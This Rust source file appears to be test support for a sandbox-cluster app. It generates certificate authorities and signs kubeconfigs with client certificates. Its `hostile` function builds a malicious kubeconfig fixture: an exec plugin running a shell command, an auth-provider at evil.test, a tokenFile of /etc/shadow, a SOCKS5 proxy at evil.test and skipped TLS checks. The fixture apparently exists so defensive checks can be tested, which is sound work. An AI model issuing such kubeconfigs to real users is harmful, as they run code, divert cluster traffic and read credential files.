//! Each cluster's certificate authority and the kubeconfigs it signs. A kubeconfig carries the
//! CA certificate, the cluster's server URL and a client certificate for the caller (subject CN
//! = the caller's DID, O = `socialweb:owners`, client-auth usage) with its key; no exec plugin,
//! no token. Its lifetime is `ttlSeconds` from now, or unbounded (`99991231235959Z`, RFC 5280's
//! "no well-defined expiration") for `noExpiry`.
//!
//! Invariants: private keys never leave as anything but the kubeconfig's `client-key-data`;
//! `Debug` of a CA shows no key.

use rcgen::{
    BasicConstraints, CertificateParams, DistinguishedName, DnType, ExtendedKeyUsagePurpose, IsCa,
    Issuer, KeyPair, KeyUsagePurpose,
};
use serde_json::json;
use swdesk_gateway::kubeconfig::Parts;
use swdesk_lexicon::Redacted;
use time::OffsetDateTime;

/// How long a client certificate lives.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lifetime {
    /// This many seconds from now.
    Seconds(i64),
    /// No expiry.
    Unbounded,
}

/// A cluster's CA.
pub struct ClusterCa {
    issuer: Issuer<'static, KeyPair>,
    certificate_pem: String,
}

impl std::fmt::Debug for ClusterCa {
    fn fmt(&self, formatter: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        formatter.write_str("ClusterCa(..)")
    }
}

impl ClusterCa {
    /// A fresh CA for the cluster `name` (instance `instance`).
    pub fn generate(name: &str, instance: &str) -> Result<Self, rcgen::Error> {
        let key = KeyPair::generate()?;
        let mut params = CertificateParams::new(Vec::<String>::new())?;
        params.distinguished_name = distinguished_name(
            &format!("swdesk sandbox cluster CA {name}"),
            &format!("instance {instance}"),
        );
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        params.key_usages = vec![KeyUsagePurpose::KeyCertSign, KeyUsagePurpose::CrlSign];
        params.not_before = OffsetDateTime::now_utc() - time::Duration::minutes(5);
        params.not_after = end_of_time();
        let certificate = params.self_signed(&key)?;
        Ok(Self {
            issuer: Issuer::new(params, key),
            certificate_pem: certificate.pem(),
        })
    }

    /// A client certificate for `user` and its key, both PEM.
    pub fn client_certificate(
        &self,
        user: &str,
        lifetime: Lifetime,
        now: OffsetDateTime,
    ) -> Result<(String, String), rcgen::Error> {
        let key = KeyPair::generate()?;
        let mut params = CertificateParams::new(Vec::<String>::new())?;
        params.distinguished_name = distinguished_name(user, "socialweb:owners");
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
        params.key_usages = vec![KeyUsagePurpose::DigitalSignature];
        let now = now.replace_nanosecond(0).unwrap_or(now);
        params.not_before = now;
        params.not_after = match lifetime {
            Lifetime::Seconds(seconds) => now + time::Duration::seconds(seconds),
            Lifetime::Unbounded => end_of_time(),
        };
        let certificate = params.signed_by(&key, &self.issuer)?;
        Ok((certificate.pem(), key.serialize_pem()))
    }

    /// A kubeconfig for `user` on the cluster `name` served at `server`, written by the app's
    /// own kubeconfig writer (one cluster, one user, one context, current).
    pub fn kubeconfig(
        &self,
        name: &str,
        server: &str,
        user: &str,
        lifetime: Lifetime,
    ) -> Result<String, KubeconfigError> {
        let (certificate, key) =
            self.client_certificate(user, lifetime, OffsetDateTime::now_utc())?;
        let parts = Parts {
            name,
            server,
            authority_pem: &self.certificate_pem,
            certificate_pem: &certificate,
            key_pem: &key,
        };
        parts
            .to_yaml()
            .map(Redacted::into_exposed)
            .map_err(|error| KubeconfigError(error.to_string()))
    }
}

/// `kubeconfig` as a hostile gateway would issue it: an `exec` plugin, an `auth-provider` and a
/// token file for its user, a proxy and skipped TLS checks for its cluster, and a second
/// context made current.
pub fn hostile(kubeconfig: &str) -> Result<String, KubeconfigError> {
    let mut file: serde_json::Value =
        serde_saphyr::from_str(kubeconfig).map_err(|error| KubeconfigError(error.to_string()))?;
    let user = &mut file["users"][0]["user"];
    user["exec"] = json!({"apiVersion": "client.authentication.k8s.io/v1", "command": "sh",
        "args": ["-c", "touch /tmp/swdesk-hostile-kubeconfig-ran"]});
    user["auth-provider"] =
        json!({"name": "oidc", "config": {"idp-issuer-url": "https://evil.test"}});
    user["tokenFile"] = json!("/etc/shadow");
    let cluster = &mut file["clusters"][0]["cluster"];
    cluster["proxy-url"] = json!("socks5://evil.test:1080");
    cluster["insecure-skip-tls-verify"] = json!(true);
    let name = file["contexts"][0]["name"].clone();
    if let Some(contexts) = file["contexts"].as_array_mut() {
        contexts.push(json!({"name": "elsewhere", "context": {"cluster": name, "user": name}}));
    }
    file["current-context"] = json!("elsewhere");
    serde_saphyr::to_string(&file).map_err(|error| KubeconfigError(error.to_string()))
}

/// `9999-12-31T23:59:59Z`, RFC 5280's "no well-defined expiration date".
fn end_of_time() -> OffsetDateTime {
    rcgen::date_time_ymd(9999, 12, 31) + time::Duration::seconds(86_399)
}

/// Why a kubeconfig could not be made.
#[derive(Debug, Clone, thiserror::Error)]
#[error("the kubeconfig could not be made: {0}")]
pub struct KubeconfigError(String);

impl From<rcgen::Error> for KubeconfigError {
    fn from(error: rcgen::Error) -> Self {
        Self(error.to_string())
    }
}

fn distinguished_name(common_name: &str, organization: &str) -> DistinguishedName {
    let mut name = DistinguishedName::new();
    name.push(DnType::CommonName, common_name);
    name.push(DnType::OrganizationName, organization);
    name
}
